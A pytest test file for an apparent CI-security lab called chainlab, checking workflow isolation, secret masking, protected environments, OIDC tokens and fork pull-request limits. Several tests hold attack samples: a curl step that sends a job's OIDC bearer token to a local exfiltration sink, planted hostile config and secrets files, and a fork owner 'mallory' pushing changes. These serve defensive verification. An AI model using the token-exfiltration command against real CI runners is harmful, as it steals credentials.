"""Runs of small workflows on the host: what jobs are told, what they may do, and what is left of them."""

from __future__ import annotations

import ipaddress
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
from project_folders import Make, write

from chainlab.ci.runs.run_record import Run
from chainlab.course.exfiltration_sink import Sink
from chainlab.errors import ChainlabError, MalformedInput
from chainlab.world import World

X = ".github/workflows/x.yml"


def workflow(jobs: str, *, on: str = "push", head: str = "") -> dict[str, str]:
    return {X: f"name: x\non: {on}\n{head}\njobs:\n" + jobs}


def test_jobs_pass_outputs_and_each_has_its_own_world(make: Make) -> None:
    run = make("acme/outputs", workflow("""
  first:
    runs-on: ubuntu-latest
    outputs:
      said: ${{ steps.say.outputs.said }}
    steps:
      - id: say
        run: |
          echo "said=it's a \\"test\\" of \\$HOME" >> "$GITHUB_OUTPUT"
          echo left > "$HOME/left"; echo left > /tmp/left
          echo "# a heading" >> "$GITHUB_STEP_SUMMARY"
  second:
    needs: first
    runs-on: ubuntu-latest
    env:
      SAID: ${{ needs.first.outputs.said }}
    steps:
      - name: look
        run: |
          echo "<$SAID> ${{ needs.first.result }}"
          ls "$HOME/left" /tmp/left 2>/dev/null || echo "nothing was left"
          python -c 'import sys; print(sys.prefix != sys.base_prefix)'; pip list --format=freeze
""")).run("push")  # fmt: skip
    assert run.result == "success", run.log
    assert run.jobs["first"].outputs == {"said": 'it\'s a "test" of $HOME'}
    assert run.summary == "# a heading\n"
    log = run.jobs["second"].log
    assert '<it\'s a "test" of $HOME> success' in log
    assert "nothing was left" in log
    assert re.search(r"True\npip==[0-9.]+\n$", log)  # a fresh environment: pip and nothing else
    assert [step.name for step in run.jobs["second"].steps] == ["look"]


def test_a_jobs_environment_shares_no_file_with_the_hosts_cache(make: Make) -> None:
    run = make("acme/links", workflow("""
  look:
    runs-on: ubuntu-latest
    steps: [{run: "python -c 'import os, pip; print(os.stat(pip.__file__).st_nlink)'"}]
""")).run("push")  # fmt: skip
    assert run.log == "1\n"


def test_an_interpreter_called_by_a_relative_path_runs_jobs_too(
    make: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "here").mkdir()  # no sandbox has it
    monkeypatch.setattr(sys, "executable", f"{tmp_path}/here/../{os.path.relpath(sys.executable, tmp_path)}")
    jobs = "  look:\n    runs-on: ubuntu-latest\n    steps: [{run: echo works}]\n"
    assert make("acme/relative", workflow(jobs)).run("push").log == "works\n"


def test_a_failure_skips_what_needs_it_unless_it_says_always(make: Make) -> None:
    run = make("acme/failing", workflow("""
  bad:
    runs-on: ubuntu-latest
    steps: [{run: "echo before"}, {run: "exit 3"}, {run: "echo never"}]
  after:
    needs: bad
    runs-on: ubuntu-latest
    steps: [{run: "echo never"}]
  always:
    needs: [bad]
    if: always()
    runs-on: ubuntu-latest
    steps: [{run: "echo got ${{ needs.bad.result }}"}]
""")).run("push")  # fmt: skip
    assert {name: job.result for name, job in run.jobs.items()} == {
        "bad": "failure",
        "after": "skipped",
        "always": "success",
    }
    assert "got failure" in run.jobs["always"].log
    assert "never" not in run.log
    assert [step.result for step in run.jobs["bad"].steps][:2] == ["success", "failure"]


def test_one_job_runs_with_those_it_needs(make: Make) -> None:
    jobs = "".join(
        f"  {name}:\n    needs: [{needs}]\n    runs-on: ubuntu-latest\n    steps: [{{run: 'true'}}]\n"
        for name, needs in (("a", ""), ("b", "a"), ("c", "b"), ("d", ""))
    )
    project = make("acme/one", workflow(jobs))
    assert list(project.run("push", job="b").jobs) == ["a", "b"]
    with pytest.raises(MalformedInput, match="has no job 'z'"):
        project.run("push", job="z")


def test_a_matrix_runs_each_of_its_values(make: Make) -> None:
    run = make("acme/matrix", workflow("""
  many:
    runs-on: ubuntu-latest
    strategy: {matrix: {k: [1, 2, 3]}}
    steps: [{run: "echo value-${{ matrix.k }}"}]
""")).run("push")  # fmt: skip
    assert run.result == "success"
    assert set(re.findall(r"value-\d", run.log)) == {"value-1", "value-2", "value-3"}


HOSTILE = {
    ".actrc": "--env HOSTILE=actrc\n--container-architecture x\n",
    ".env": "HOSTILE=env\n",
    ".secrets": "HOSTILE=secrets\nDEPLOY=stolen\n",
    ".vars": "HOSTILE=vars\n",
    ".input": "HOSTILE=input\n",
    ".github/workflows/.actrc": "--env HOSTILE=inner\n",
}


def test_files_that_act_obeys_have_no_effect(make: Make) -> None:
    run = make("acme/hostile", HOSTILE | workflow("""
  look:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          test -f .actrc && test -f .env && test -f .secrets
          echo "[$HOSTILE][${{ secrets.HOSTILE }}][${{ vars.HOSTILE }}][${{ inputs.HOSTILE }}][${{ secrets.DEPLOY }}]"
"""), {"secrets": {"DEPLOY": "FAKE-deploy"}}).run("push")  # fmt: skip
    assert run.result == "success", run.log
    assert "[][][][][***]" in run.log


def test_secrets_are_masked_and_variables_are_not(make: Make) -> None:
    settings = {"secrets": {"KEY": "FAKE-key-of-nobody"}, "variables": {"PLACE": "{url}/raw"}}
    run = make("acme/masked", workflow("""
  say:
    runs-on: ubuntu-latest
    steps: [{run: "echo ${{ secrets.KEY }} ${{ vars.PLACE }}"}]
"""), settings).run("push")  # fmt: skip
    assert re.search(r"\*\*\* http://127\.0\.0\.1:\d+/raw\n", run.log)


def test_a_job_that_takes_too_long_is_ended_with_all_it_started(make: Make) -> None:
    mark = f"300.{os.getpid()}"  # nobody else's
    run = make("acme/slow", workflow(f"""
  slow:
    runs-on: ubuntu-latest
    timeout-minutes: 0.05
    steps:
      - run: |
          sleep {mark} &
          echo begun; sleep {mark}
""")).run("push")  # fmt: skip
    job = run.jobs["slow"]
    assert job.result == "failure"
    assert "too long" in job.why
    assert job.seconds < 20
    running = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    assert f"sleep {mark}" not in running


def test_docker_is_left_out_and_said(make: Make) -> None:
    run = make("acme/docker", workflow("""
  boxed:
    runs-on: ubuntu-latest
    container: acme/runner:latest
    steps: [{run: "echo ran"}]
""")).run("push")  # fmt: skip
    assert run.result == "success"
    assert "no docker" in run.jobs["boxed"].why


PROTECTED = {
    "environments": {
        "release": {
            "refs": ["refs/tags/v*"],
            "reviewers": True,
            "secrets": {"SEAL": "FAKE-seal"},
        }
    },
    "secrets": {"COMMON": "FAKE-common"},
}
SEALED = """
  seal:
    runs-on: ubuntu-latest
    environment: release
    steps: [{run: "echo '[${{ secrets.SEAL }}][${{ secrets.COMMON }}]'"}]
  other:
    runs-on: ubuntu-latest
    steps: [{run: "echo '[${{ secrets.SEAL }}][${{ secrets.COMMON }}]'"}]
"""


def test_an_environment_admits_its_refs_after_a_review_and_gives_its_secrets_to_its_job(
    make: Make,
) -> None:
    project = make("acme/protected", workflow(SEALED), PROTECTED)
    on_main = project.run("push")
    assert on_main.jobs["seal"].result == "failure"
    assert "does not admit refs/heads/main" in on_main.jobs["seal"].why
    project.tag("v1")
    waiting = project.run("push", ref="refs/tags/v1")
    assert (waiting.result, waiting.jobs["seal"].result) == ("waiting", "waiting")
    approved = project.run("push", ref="refs/tags/v1", approve=["release"])
    assert "[***][***]" in approved.jobs["seal"].log
    assert "[][***]" in approved.jobs["other"].log


def test_a_reusable_workflow_runs_with_the_callers_rights(make: Make) -> None:
    files = workflow("""
  call:
    uses: ./.github/workflows/called.yml
    with: {word: hello}
    secrets: inherit
""") | {".github/workflows/called.yml": """
name: called
on:
  workflow_call:
    inputs:
      word: {type: string, required: true}
jobs:
  inner:
    runs-on: ubuntu-latest
    steps: [{run: "echo ${{ inputs.word }} ${{ secrets.KEY }}"}]
"""}  # fmt: skip
    run = make("acme/calling", files, {"secrets": {"KEY": "FAKE-key-of-nobody"}}).run("push")
    assert run.result == "success", run.log + run.jobs["call"].why
    assert "hello ***" in run.log


def test_a_run_is_kept_and_told(make: Make, world: World) -> None:
    last = world.registry.events.last
    run = make("acme/kept", workflow("  a:\n    runs-on: ubuntu-latest\n    steps: [{run: echo kept}]\n")).run("push")
    folder = world.ci.directory / "runs" / str(run.id)
    assert Run.load(folder) == run
    assert (folder / "a.log").read_text() == "kept\n"
    assert world.ci.runs()[-1] == run
    types = [event.type.removeprefix("dev.chainlab.") for event in world.registry.events.read(after=last)]
    assert [t for t in types if "run" in t or "step" in t] == [
        "pipelinerun.started",
        "taskrun.started",
        "step.finished",
        "taskrun.finished",
        "pipelinerun.finished",
    ]


def test_provenance_lists_nothing_that_an_earlier_job_with_the_address_got(make: Make, world: World) -> None:
    """Numbers of runs come round, and begin anew where somebody empties the folder."""
    project = make("acme/again", workflow("  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n"))
    first = project.run("push").jobs["a"].address
    if not first:
        pytest.skip("jobs have addresses of their own only in a network namespace")
    file = world.registry.index.files("acme-cells")[0]
    following = str(ipaddress.ip_address(first) + 256)  # that of the next run's first job
    assert world.registry.index.served.record(following, file)
    assert project.run("push").jobs["a"].address == following
    assert world.registry.index.downloads(following) == []


def test_no_or_several_workflows_are_an_error_that_names_them(make: Make) -> None:
    job = "  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n"
    files = workflow(job) | {".github/workflows/y.yml": workflow(job)[X]}
    project = make("acme/several", files)
    with pytest.raises(MalformedInput, match=r"x\.yml, y\.yml"):
        project.run("push")
    assert len(project.runs("push")) == 2
    with pytest.raises(MalformedInput, match="starts 0 workflows"):
        project.run("schedule")
    with pytest.raises(MalformedInput, match=r"does not start x\.yml"):
        project.run("schedule", workflow="x.yml")


def test_an_action_that_is_not_in_the_mirror_is_named_with_its_line(make: Make) -> None:
    project = make(
        "acme/unknown",
        workflow("  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: nobody/nothing@v1\n"),
    )
    with pytest.raises(ChainlabError, match=r"x\.yml, line 8: 'nobody/nothing@v1' cannot be resolved"):
        project.run("push")


# -- identity

ASK = (
    'curl -sS -H "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" '
    '"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sigstore"'
)


def test_the_bearer_is_the_jobs_own_and_dies_with_it(make: Make, world: World, sink: Sink) -> None:
    project = make("acme/identity", workflow(f"""
  granted:
    permissions: {{id-token: write}}
    runs-on: ubuntu-latest
    steps:
      - run: |
          {ASK} > /dev/null && echo asked
          echo "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" | curl -sS --noproxy '*' --data-binary @- {sink.url}
  again:
    permissions: {{id-token: write}}
    runs-on: ubuntu-latest
    steps: [{{run: "echo $ACTIONS_ID_TOKEN_REQUEST_TOKEN | curl -sS --noproxy '*' --data-binary @- {sink.url}"}}]
  denied:
    runs-on: ubuntu-latest
    permissions: {{contents: read}}
    steps: [{{run: "echo [$ACTIONS_ID_TOKEN_REQUEST_TOKEN][$ACTIONS_ID_TOKEN_REQUEST_URL]"}}]
"""))  # fmt: skip
    run = project.run("push", ports=[sink.port])
    assert run.result == "success", run.log
    assert "asked" in run.jobs["granted"].log
    assert run.jobs["denied"].log == "[][]\n"
    bearers = [body.decode().strip() for body in sink.received]
    assert len(set(bearers)) == 2
    for bearer in bearers:
        answer = httpx.get(f"{world.url}/ci/token?audience=sigstore", headers={"Authorization": f"Bearer {bearer}"})
        assert answer.status_code == 401
        assert "the job of this token has ended" in answer.text
        assert bearer not in run.explain()


def test_the_certificate_says_repository_ref_workflow_run_and_environment(make: Make) -> None:
    project = make("acme/certified", workflow("""
  sign:
    permissions: {id-token: write}
    runs-on: ubuntu-latest
    environment: release
    steps:
      - run: |
          echo model > model.bin
          sigstore --trust-config "$CHAINLAB_TRUST_CONFIG" sign --bundle b.json model.bin > /dev/null 2>&1
          cat b.json
"""), {"environments": {"release": {}}})  # fmt: skip
    project.tag("v7")
    run = project.run("push", ref="refs/tags/v7")
    assert run.result == "success", run.log
    from sigstore.models import Bundle

    certificate = Bundle.from_json(run.log).signing_certificate
    said = {
        e.oid.dotted_string.rpartition(".")[2]: e.value.value[2:].decode()
        for e in certificate.extensions
        if e.oid.dotted_string.startswith("1.3.6.1.4.1.57264.1.") and len(e.oid.dotted_string) > 21
    }
    values = set(said.values())
    assert "https://git.chainlab.localhost/acme/certified" in values
    assert "refs/tags/v7" in values
    assert "https://git.chainlab.localhost/acme/certified/.github/workflows/x.yml@refs/tags/v7" in values
    assert f"https://git.chainlab.localhost/acme/certified/actions/runs/{run.id}/attempts/1" in values
    assert "repo:acme/certified:environment:release" in values


def test_a_forks_pull_request_gets_neither_secret_nor_identity_nor_a_token_that_writes(
    make: Make, tmp_path: Path
) -> None:
    files = workflow("""
  look:
    permissions: {contents: write, id-token: write}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          echo "[${{ secrets.KEY }}][$ACTIONS_ID_TOKEN_REQUEST_TOKEN]"
          cat changed; git push origin HEAD:refs/heads/mine 2>&1 | tail -1
""", on="[pull_request, pull_request_target]")  # fmt: skip
    project = make("acme/forked", files, {"secrets": {"KEY": "FAKE-key-of-nobody"}})
    write(tmp_path / "fork", files | {"changed": "by mallory\n"})
    pull = project.pull_request(owner="mallory", branch="b", folder=tmp_path / "fork", title="t")
    run = project.run("pull_request", pull=pull)
    assert "[][]" in run.log
    assert "by mallory" in run.log
    assert run.jobs["look"].permissions == {"contents": "read"}
    assert "refs/heads/mine" not in project.host.platform.repositories.refs("acme/forked")
    target = project.run("pull_request_target", pull=pull)
    assert "[***]" in target.log
    assert "by mallory" not in target.log  # the base is checked out
    assert target.jobs["look"].permissions == {"contents": "write", "id-token": "write"}


def test_a_forks_pull_request_gets_no_provenance(make: Make, tmp_path: Path) -> None:
    files = workflow("""
  keep:
    runs-on: ubuntu-latest
    steps:
      - run: echo model > model.bin
      - uses: actions/upload-artifact@v4
        with: {name: model, path: model.bin}
""", on="pull_request")  # fmt: skip
    project = make("acme/attested", files)
    runs = {}
    for owner in ("acme", "mallory"):
        write(tmp_path / owner, files | {"changed": owner})
        pull = project.pull_request(owner=owner, branch="b", folder=tmp_path / owner, title="t")
        runs[owner] = project.run("pull_request", pull=pull)
    assert all(run.artifacts["model"] for run in runs.values())
    assert [bool(runs[o].jobs["keep"].provenance) for o in ("acme", "mallory")] == [True, False]


# -- the command line


def command(*words: str | Path, workspace: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "chainlab", "ci", *map(str, words)],
        capture_output=True,
        text=True,
        env={**os.environ, "CHAINLAB_WORKSPACE": str(workspace)},
        timeout=120,
        check=False,
    )


def test_the_command_runs_a_folder_and_its_exit_status_is_the_answer(tmp_path: Path) -> None:
    project = tmp_path / "demo"
    write(
        project,
        workflow("  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'echo said; test -f ok'}]\n"),
    )
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    failed = command("run", "--project", project, "--event", "push", "--explain", "--log", workspace=workspace)
    assert failed.returncode == 1, failed.stderr
    assert "run 1: .github/workflows/x.yml on push at refs/heads/main: failure" in failed.stdout
    assert "chainlab-report" in failed.stdout
    assert "Traceback" not in failed.stderr
    write(project, workflow("  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'echo said'}]\n"))
    good = command("run", "--project", project, "--event", "push", "--json", workspace=workspace)
    assert good.returncode == 0, good.stderr
    assert json.loads(good.stdout)["jobs"]["a"]["steps"][0]["log"] == "said\n"
    wrong = command("run", "--project", project, "--event", "schedule", workspace=workspace)
    assert wrong.returncode == 2
    assert "starts 0 workflows" in wrong.stderr
